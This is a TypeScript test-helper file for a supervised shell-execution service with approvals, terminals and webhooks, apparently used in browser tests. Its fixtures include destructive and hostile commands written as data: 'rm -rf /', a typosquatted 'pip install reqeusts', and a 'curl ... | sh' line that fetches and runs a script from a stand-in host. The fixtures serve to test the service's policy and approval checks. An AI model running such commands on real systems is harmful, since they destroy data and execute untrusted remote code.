import { spawnSync } from 'node:child_process'
import type { Page } from 'playwright-core'
import type { ExecRecord, Webhook } from '../../src/shared/schema/index.ts'
import { isDrawn } from './browser.ts'
import { noTerminals, type Service, startService, until } from '../support/helper.ts'

/** Starts a service with completed, failed and denied runs, a pending approval, and terminals switched on. */
export async function busyService(): Promise<Service> {
  const service = await startService({
    env: {
      SHELLPHONE_POLICY: 'supervised',
      SHELLPHONE_TERMINAL: 'on',
      SHELLPHONE_WEBHOOK_HOSTS: '["127.0.0.1"]',
      SHELLPHONE_APPROVAL_TIMEOUT_SECONDS: '600',
    },
  })
  for (const command of ['uname -a', 'ls /no-such', 'rm -rf /', "printf '\\033[1;32mgreen\\033[0m\\n'; seq 1 30"]) {
    await service.exec({ command })
  }
  await service.post('/exec', { command: 'pip install reqeusts', background: true })
  return service
}

/** The token that this browser stores. */
export const tokenOf = (page: Page): Promise<string> =>
  page.evaluate<string>(`JSON.parse(localStorage.getItem('shellphone.access')).token`)

/** Gives the token of this browser a session and, at `url`, a webhook to which the end of a run was sent. */
export async function addOwn(page: Page, service: Service, url: string): Promise<void> {
  const token = await tokenOf(page)
  const send = (method: string, path: string, body: object) =>
    service.request(path, {
      ...{ method, token, body: JSON.stringify(body) },
      headers: { 'content-type': 'application/json' },
    })
  await send('PUT', '/webhooks/ci', { url, types: ['run.ended'] })
  await send('POST', '/exec', { command: 'ls', session: 'build', env: { CC: 'clang' } })
  await until(async () => {
    const { webhooks } = (await (await service.request('/webhooks', { token })).json()) as { webhooks: Webhook[] }
    return (webhooks[0]?.deliveries[0]?.tries ?? 0) > 0
  })
}

/** The name and address of every view, including one of an ended run and, if terminals are available, one of a terminal. */
export async function addressesOf(service: Service): Promise<[name: string, address: string][]> {
  const { runs } = (await (await service.request('/runs?q=seq')).json()) as { runs: { id: string }[] }
  const terminals: [string, string][] = (await noTerminals(service))
    ? []
    : [['one-terminal', `#/terminal/${await openTerminal(service)}`]]
  const plain = [
    'run',
    'runs',
    'approvals',
    'rules',
    'policy',
    'files',
    'terminal',
    'phone',
    'doctor',
    'sessions',
    'webhooks',
    'settings',
    'access',
    'access-log',
    'more',
  ]
  return [
    ...plain.map((name): [string, string] => [name, `#/${name}`]),
    ['one-run', `#/runs/${runs[0]!.id}`],
    ...terminals,
    ['policy-answer', `#/policy?command=${encodeURIComponent('curl https://x.example/i.sh | sh')}`],
  ]
}

async function openTerminal(service: Service): Promise<string> {
  const opened = await service.post('/exec', { command: 'cat', tty: { rows: 24, columns: 80 }, background: true })
  return ((await opened.json()) as { id: string }).id
}

/** Whether a view has loaded its data, the output of its run included, and its animations have ended except endless ones, such as a blinking cursor. */
const SETTLED = `document.querySelector('.state.loading') === null &&
  document.querySelector('.blocks')?.textContent !== '' &&
  document.getAnimations().every(({ effect }) => effect.getComputedTiming().endTime === Infinity)`

/** Waits until a view of the busy service has loaded its data, its animations have ended, and it has been drawn. */
export async function isSettled(page: Page): Promise<void> {
  await until(() => page.evaluate<boolean>(SETTLED))
  await isDrawn(page)
}

/** Runs commands one after the other in one run, each when the output of those before has arrived, so that the order of both streams is certain. Resolves with the id of the run. */
export async function runInParts(service: Service, parts: string[]): Promise<string> {
  const { id } = await service.exec({ command: parts.join('; read line; '), stdin: 'open', background: true })
  const wanted = { stdout: 0, stderr: 0 }
  for (const [at, part] of parts.entries()) {
    const { stdout, stderr } = spawnSync('sh', ['-c', part], { maxBuffer: 100_000_000 })
    wanted.stdout += stdout.length
    wanted.stderr += stderr.length
    const hasArrived = async () => {
      const { stdout_bytes, stderr_bytes } = (await (await service.request(`/runs/${id}`)).json()) as ExecRecord
      return stdout_bytes === wanted.stdout && stderr_bytes === wanted.stderr
    }
    await until(hasArrived)
    if (at < parts.length - 1) await service.post(`/runs/${id}/stdin`, { data: '\n' })
  }
  return id
}
